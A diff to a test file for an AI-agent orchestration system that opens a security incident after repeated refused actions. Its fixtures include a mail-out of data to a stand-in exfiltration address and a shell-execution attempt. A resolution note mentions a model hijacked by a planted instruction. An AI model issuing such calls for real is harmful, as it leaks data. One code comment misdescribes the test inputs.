@@ -2,7 +2,7 @@
 // resolved by people only, and a policy-violations incident when a run keeps hitting policy.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { AirlockError } from '../../src/errors.js';
-import { checkPolicyViolations, openIncident, resolveIncident } from '../../src/orchestration/incidents.js';
+import { checkRefusals, openIncident, resolveIncident } from '../../src/orchestration/incidents.js';
 import type { RunRecord } from '../../src/store/store.js';
 import type { RunId } from '../../src/types.js';
 import { openHostile, recordsOf, refund, type Hostile } from '../security/harness.js';
@@ -87,36 +87,44 @@ describe('resolving incidents', () => {
   });
 });
 
-describe('policy violations', () => {
+describe('repeated refusals', () => {
   const exfil = { tool: 'mail.send', args: { to: 'audit@exfil-partner.example', subject: 'x', body: 'y' } };
 
-  it('opens a security incident once a run has `threshold` denied actions, and only once', async () => {
-    // Two denials by policy, plus refusals that are not policy denials (unknown tool, invalid arguments).
-    const two = await h.run([exfil, refund({ amount_cents: 90000 }), { tool: 'shell.exec', args: {} }, refund({ amount_cents: 'lots' })]);
-    expect(recordsOf(await h.audit(two.id), 'action.not-executed').map((r) => r.body['why'])).toEqual(['denied', 'denied', 'unknown-tool', 'invalid-arguments']);
-    expect(await checkPolicyViolations(h.a, two.id)).toBeNull();
+  it('opens a security incident once a run has `threshold` refused attempts of any kind, and only once', async () => {
+    const two = await h.run([exfil, refund({ amount_cents: 90000 })]);
+    expect(recordsOf(await h.audit(two.id), 'action.not-executed').map((r) => r.body['why'])).toEqual(['denied', 'denied']);
+    expect(await checkRefusals(h.a, two.id)).toBeNull();
     // A lower threshold counts the same two.
-    const low = await checkPolicyViolations(h.a, two.id, 2);
+    const low = await checkRefusals(h.a, two.id, 2);
     expect(low).toMatchObject({ kind: 'policy-violations', boundary: 'security', owner: 'security@acme.example', status: 'open' });
 
     const three = await h.run([exfil, exfil, refund({ amount_cents: 90000 })]);
-    const incident = await checkPolicyViolations(h.a, three.id);
+    const incident = await checkRefusals(h.a, three.id);
     expect(incident).toMatchObject({ runId: three.id, kind: 'policy-violations', owner: 'security@acme.example' });
-    const evidence = incident!.evidence as { threshold: number; denied: { tool: string; policyIds: string[] }[] };
+    const evidence = incident!.evidence as { threshold: number; refused: { tool: string; why: string; policyIds: string[] }[] };
     expect(evidence.threshold).toBe(3);
-    expect(evidence.denied.map((d) => d.tool)).toEqual(['mail.send', 'mail.send', 'payments.refund']);
-    expect(evidence.denied[0]?.policyIds).toContain('mail-internal-only');
-    expect(evidence.denied[2]?.policyIds).toContain('refund-cap');
+    expect(evidence.refused.map((d) => d.tool)).toEqual(['mail.send', 'mail.send', 'payments.refund']);
+    expect(evidence.refused[0]?.policyIds).toContain('mail-internal-only');
+    expect(evidence.refused[2]?.policyIds).toContain('refund-cap');
 
     // Called again at another run end (a resume), and after it was resolved: still the one incident.
-    expect((await checkPolicyViolations(h.a, three.id))?.id).toBe(incident!.id);
+    expect((await checkRefusals(h.a, three.id))?.id).toBe(incident!.id);
     await resolveIncident(h.a, incident!.id, h.a.principal('user:dana'), 'the model was hijacked by a planted instruction; reported');
-    expect((await checkPolicyViolations(h.a, three.id))?.id).toBe(incident!.id);
+    expect((await checkRefusals(h.a, three.id))?.id).toBe(incident!.id);
     expect((await h.a.store.listIncidents({ runId: three.id })).filter((i) => i.kind === 'policy-violations')).toHaveLength(1);
     expect(recordsOf(await h.audit(three.id), 'incident.opened').filter((r) => r.body['kind'] === 'policy-violations')).toHaveLength(1);
   });
 
+  it('counts refusals by the contract and unknown tools too: three invalid refunds open the incident', async () => {
+    // Three 9,999 EUR refunds the contract refuses (an amount over its schema maximum, or not a number), none reaching policy.
+    const run = await h.run([refund({ amount_cents: 'lots' }), { tool: 'shell.exec', args: {} }, refund({ amount_cents: -999_900 })]);
+    expect(recordsOf(await h.audit(run.id), 'action.not-executed').map((r) => r.body['why'])).toEqual(['invalid-arguments', 'unknown-tool', 'invalid-arguments']);
+    const incident = await checkRefusals(h.a, run.id);
+    expect(incident).toMatchObject({ kind: 'policy-violations', boundary: 'security' });
+    expect((incident!.evidence as { refused: { why: string }[] }).refused.map((r) => r.why)).toEqual(['invalid-arguments', 'unknown-tool', 'invalid-arguments']);
+  });
+
   it('refuses a threshold below 1', async () => {
-    await expect(checkPolicyViolations(h.a, run.id, 0)).rejects.toMatchObject({ code: 'input' });
+    await expect(checkRefusals(h.a, run.id, 0)).rejects.toMatchObject({ code: 'input' });
   });
 });
